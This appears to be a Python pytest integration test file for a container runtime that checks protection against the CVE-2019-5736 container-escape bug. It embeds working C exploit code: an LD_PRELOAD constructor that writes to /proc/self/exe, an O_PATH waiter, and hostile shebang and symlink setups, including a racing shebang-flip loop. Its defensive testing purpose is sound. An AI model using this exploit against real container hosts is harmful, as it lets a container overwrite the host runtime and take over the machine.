"""CVE-2019-5736 with a real attacker: every way to run the runtime's host binary inside
the container, against a copy of the interpreter (so that a failure cannot harm the host).

The image ships a library whose constructor, once it runs inside the host interpreter,
opens /proc/self/exe for writing; on ETXTBSY it keeps an O_PATH fd and a child retries
until the runtime has exited, as the published exploit does. Each shape must leave the
copy's digest as it was, and any write that was tried must have failed.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.integration.conftest import ROOT_ONLY, ROOTFS_DIRS, Runner

pytestmark = ROOT_ONLY

PROJECT = Path(__file__).resolve().parents[2]
ALLOWED_ERRNOS = ("EPERM", "ETXTBSY", "EROFS")

EVIL_C = r"""
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void record(const char *what) {
    char line[160];
    int fd = open("/attack.log", O_WRONLY | O_APPEND | O_CREAT, 0644);
    if (fd < 0) return;
    int n = snprintf(line, sizeof line, "%d %s\n", (int)getpid(), what);
    write(fd, line, n);
    close(fd);
}

static const char *name(int err) {
    switch (err) {
    case EPERM: return "EPERM"; case ETXTBSY: return "ETXTBSY"; case EROFS: return "EROFS";
    case EACCES: return "EACCES"; default: return "OTHER";
    }
}

static int try_write(const char *path, char *outcome) {
    int fd = open(path, O_WRONLY | O_APPEND);
    if (fd < 0) { sprintf(outcome, "open-failed %s", name(errno)); return errno; }
    if (write(fd, "#PWNED", 6) != 6) {
        sprintf(outcome, "write-failed %s", name(errno)); close(fd); return errno;
    }
    close(fd);
    strcpy(outcome, "WROTE");
    return 0;
}

#ifdef WAITER
/* Holds an O_PATH fd of the interpreter (inherited) and retries until nothing runs it. */
int main(int argc, char **argv) {
    char outcome[64] = "gave-up ETXTBSY";
    struct timespec pause = {0, 20 * 1000 * 1000};
    for (int i = 0; argc > 1 && i < 250; i++) {   /* up to 5 s for the runtime to exit */
        if (try_write(argv[1], outcome) != ETXTBSY) break;
        nanosleep(&pause, NULL);
    }
    record(outcome);
    return 0;
}
#else
__attribute__((constructor)) static void attack(void) {
    char exe[512] = {0}, outcome[64];
    if (readlink("/proc/self/exe", exe, sizeof exe - 1) < 0 || !strstr(exe, "python"))
        return;  /* only the runtime's interpreter: the image's own programs load us too */
    record("started");
    if (try_write("/proc/self/exe", outcome) != ETXTBSY) { record(outcome); return; }
    int keep = open("/proc/self/exe", O_PATH);
    if (keep < 0 || fork() != 0) return;   /* the parent goes on as the interpreter */
    setsid();                             /* the child lets go of it by exec'ing the waiter */
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", keep);
    execl("/waiter", "waiter", path, (char *)NULL);
    record("no-waiter OTHER");
    _exit(1);
}
#endif
"""


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _libraries(binary: Path) -> list[Path]:
    """The shared libraries (and the loader) that `binary` needs, as ldd names them."""
    out = subprocess.run(["ldd", str(binary)], capture_output=True, text=True).stdout
    found = []
    for line in out.splitlines():
        words = line.split()
        for word in words:
            if word.startswith("/") and Path(word).exists():
                found.append(Path(word))
    return found


@pytest.fixture(scope="module")
def attack(runtime_root: Path, demo_rootfs: Path, session_dir: Path):
    compiler = shutil.which("cc") or shutil.which("gcc")
    if compiler is None:
        pytest.skip("no C compiler to build the attacker's library (apt-get install gcc)")
    work = session_dir / "self-exe-attack"
    work.mkdir(mode=0o755)
    real = Path(os.path.realpath(sys.executable))
    interpreter = work / "python-copy"
    shutil.copy2(real, interpreter)
    probe = subprocess.run([str(interpreter), "-c", "import runtime.api"], capture_output=True,
                           env={**os.environ, "PYTHONPATH": str(PROJECT)}, text=True)
    if probe.returncode != 0:
        pytest.skip(f"a copy of {real} cannot run the runtime here: {probe.stderr.strip()}")
    rootfs = work / "rootfs"
    shutil.copytree(demo_rootfs, rootfs, symlinks=True)
    os.chmod(rootfs, 0o755)
    ROOTFS_DIRS.append(rootfs)
    # The interpreter's own libraries inside the image, so that the host binary really
    # starts in there if the runtime ever lets it: the attacker's library then runs.
    for library in _libraries(interpreter):
        target = rootfs / library.relative_to("/")
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(library, target)
    for flags, output in ((["-shared", "-fPIC"], "evil.so"), (["-DWAITER"], "waiter")):
        built = subprocess.run([compiler, *flags, "-O1", "-o", str(rootfs / output), "-x", "c",
                                "-"], input=EVIL_C, capture_output=True, text=True)
        assert built.returncode == 0, built.stderr
    (rootfs / "bin/bash").unlink(missing_ok=True)
    os.symlink("/proc/self/exe", rootfs / "bin/bash")                # shape 1
    os.symlink("/proc/self/exe", rootfs / "evil-link")               # shape 4
    (rootfs / "bin/inner").write_text("#!/proc/self/exe\n")          # shape 3
    (rootfs / "evil-nested").write_text("#!/bin/inner\n")
    (rootfs / "evil-direct").write_text("#!/proc/self/exe\n")        # refused today
    (rootfs / "evil-via-link").write_text("#!/evil-link\n")          # refused today
    for name in ("bin/inner", "evil-nested", "evil-direct", "evil-via-link"):
        os.chmod(rootfs / name, 0o755)
    # PYTHONPATH: the copy has no venv; the runtime needs only the standard library.
    runner = Runner(runtime_root, rootfs, work, interpreter=str(interpreter),
                    env={**os.environ, "PYTHONPATH": str(PROJECT)})
    before = _digest(interpreter)
    try:
        yield runner, interpreter, rootfs
    finally:
        runner.cleanup()
    assert _digest(interpreter) == before


def _config(runner: Runner, args: list[str]) -> dict:
    config = runner.config(args)
    config["root"]["readonly"] = False  # the attacker records what it managed
    config["process"]["env"].append("LD_PRELOAD=/evil.so")
    return config


def _outcomes(rootfs: Path, wait: float = 8.0) -> list[str]:
    """The attacker's reports once every attack that started has finished."""
    log = rootfs / "attack.log"
    deadline = time.monotonic() + wait
    while True:
        lines = log.read_text().splitlines() if log.exists() else []
        started = sum(line.endswith(" started") for line in lines)
        finished = [line.split(" ", 1)[1] for line in lines if not line.endswith(" started")]
        if len(finished) >= started or time.monotonic() > deadline:
            return finished


def _assert_host_binary_untouched(interpreter: Path, before: str, rootfs: Path) -> None:
    outcomes = _outcomes(rootfs)
    assert "WROTE" not in outcomes, f"the container wrote to the runtime's interpreter: {outcomes}"
    for outcome in outcomes:
        assert outcome.split()[-1] in ALLOWED_ERRNOS, (
            f"a write to the interpreter failed, but not with {'/'.join(ALLOWED_ERRNOS)}: "
            f"{outcome}")
    assert _digest(interpreter) == before, "the runtime's interpreter changed"


def _running(runner: Runner) -> str:
    cid = runner.new_id("sx")
    bundle = runner.bundle(config=_config(runner, ["sleep", "60"]))
    runner("run", "-d", "-b", str(bundle), cid, check=True)
    return cid


@pytest.mark.parametrize("command", [
    ["bash"],                   # 1: the image's bash is a symlink to /proc/self/exe
    ["/proc/self/exe"],         # 2
    ["/evil-nested"],           # 3: #!/bin/inner, and /bin/inner is #!/proc/self/exe
    ["/evil-direct"],           # refused by name before (and still)
    ["/evil-via-link"],         # refused by name before (and still)
], ids=["exec-bash-symlink", "exec-proc-self-exe", "exec-nested-shebang",
        "exec-direct-shebang", "exec-shebang-to-link"])
def test_exec_cannot_reach_the_host_interpreter(attack, command: list[str]) -> None:
    runner, interpreter, rootfs = attack
    before = _digest(interpreter)
    cid = _running(runner)
    result = runner("exec", "-e", "LD_PRELOAD=/evil.so", cid, *command)
    assert result.returncode != 0, result
    assert "CVE-2019-5736" in result.stderr, result.stderr
    assert "Traceback" not in result.stderr
    _assert_host_binary_untouched(interpreter, before, rootfs)


def test_args0_symlink_to_proc_self_exe_cannot_reach_the_host_interpreter(attack) -> None:
    """Shape 4: process.args[0] is a symlink to /proc/self/exe, started with run -d."""
    runner, interpreter, rootfs = attack
    before = _digest(interpreter)
    cid = runner.new_id("sx")
    bundle = runner.bundle(config=_config(runner, ["/evil-link"]))
    runner("run", "-d", "-b", str(bundle), cid, check=True)
    state = runner.wait_status(cid, "stopped")
    assert state["status"] == "stopped"
    _assert_host_binary_untouched(interpreter, before, rootfs)


def test_flipped_shebang_race_cannot_reach_the_host_interpreter(attack) -> None:
    """Shape 5: the container swaps a script between a harmless shebang and
    #!/proc/self/exe while exec runs; at least 200 flips."""
    runner, interpreter, rootfs = attack
    before = _digest(interpreter)
    flipper = ("i=0; while [ $i -lt 100000 ]; do printf '#!/bin/sh\\nexit 0\\n' > /flip; "
               "printf '#!/proc/self/exe\\n' > /flip; i=$((i+1)); echo $i > /flips; done")
    cid = runner.new_id("sx")
    bundle = runner.bundle(config=_config(runner, ["sh", "-c", flipper]))
    (rootfs / "flip").write_text("#!/bin/sh\nexit 0\n")
    os.chmod(rootfs / "flip", 0o755)
    runner("run", "-d", "-b", str(bundle), cid, check=True)
    codes = set()
    for _ in range(25):
        result = runner("exec", "-e", "LD_PRELOAD=/evil.so", cid, "/flip")
        codes.add(result.returncode)
        assert "Traceback" not in result.stderr
    flips = 0
    for _ in range(100):  # the flipper truncates and rewrites the count: read a whole one
        text = (rootfs / "flips").read_text().strip()
        if text:
            flips = int(text)
            break
        time.sleep(0.01)
    assert flips >= 200, f"only {flips} flips happened during the execs"
    _assert_host_binary_untouched(interpreter, before, rootfs)
    assert codes - {0}, "no exec ever met the hostile shebang"


def test_the_attacker_library_runs_when_the_host_interpreter_is_started(attack) -> None:
    """The attack is real: started inside the container by path (as it would be without
    the sealed helper), the interpreter copy loads the attacker's library and tries."""
    runner, interpreter, rootfs = attack
    (rootfs / "attack.log").unlink(missing_ok=True)
    shutil.copy2(interpreter, rootfs / "python-in-image")
    cid = runner.new_id("sx")
    # The init stays a moment: the attacker's child writes once the interpreter is gone.
    config = _config(runner, ["sh", "-c", "/python-in-image -c pass; sleep 2"])
    runner("run", "-b", str(runner.bundle(config=config)), cid)
    outcomes = _outcomes(rootfs)
    # The image's own copy is writable: this proves the library runs, not that we block.
    assert outcomes == ["WROTE"], outcomes
    (rootfs / "attack.log").unlink()
